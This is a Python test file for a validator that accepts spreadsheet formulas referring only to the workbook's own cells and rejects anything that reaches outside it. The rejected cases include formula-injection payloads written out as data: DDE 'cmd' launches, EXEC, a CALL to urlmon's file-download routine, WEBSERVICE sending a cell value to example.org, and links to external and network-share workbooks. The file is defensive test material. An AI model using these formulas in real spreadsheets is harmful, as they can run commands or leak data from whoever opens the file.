"""Formulas over the workbook's own cells stay; whatever reaches out of it does not."""

import pytest

from orchestration.feedback.formulas import is_harmless

SHEETS = ["KC-01", "Biểu 2", "Ông A's"]
NAMES = ["TongCong"]


@pytest.mark.parametrize(
    "formula",
    [
        "=SUM(F10:F13)",
        "=$F$10+F11*2-1",
        "=SUM(F:F)/100",
        "=IF(F10>0,\"có [x] | y\",'Biểu 2'!B7)",
        "='KC-01'!F14",
        "='Ông A''s'!F14",
        "=SUM('KC-01:Biểu 2'!F14)",
        "=SUBTOTAL(9,F10:F13)",
        "=VLOOKUP(B10,'Biểu 2'!A:C,3,FALSE)",
        "=_xlfn.XLOOKUP(B10,A:A,C:C)",
        "=TongCong*2",
        "=F10-#REF!",
        "=SUM('KC-01'!#REF!)",
    ],
)
def test_a_formula_over_its_own_workbook_is_harmless(formula: str) -> None:
    assert is_harmless(formula, SHEETS, NAMES)


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|'/c calc'!A0",
        '=DDE("cmd","/c calc","1")',
        "=[1]Sheet1!A1",
        "='[KH 2024.xlsx]Sheet1'!B5",
        "='C:\\KH\\[KH 2024.xlsx]Sheet1'!B5",
        "='\\\\may-chu\\kh\\[a.xlsx]S'!B5",
        '=WEBSERVICE("http://example.org/"&B2)',
        '=_xlfn.WEBSERVICE("http://example.org")',
        '=HYPERLINK("http://example.org","xem")',
        "=INDIRECT(\"'[a.xlsx]S'!A1\")",
        '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"x","y",0,0)',
        '=EXEC("calc")',
        '=REGISTER.ID("a","b")',
        '=RTD("a",,"b")',
        "=MyAddIn(A1)",
        '=IMAGE("http://example.org/a.png")',
        "='Trang khác'!A1",
        "=KhongCo",
        "=Bang1[Cot]",
        '="chưa đóng',
    ],
)
def test_what_reaches_out_or_is_not_understood_is_not(formula: str) -> None:
    assert not is_harmless(formula, SHEETS, NAMES)
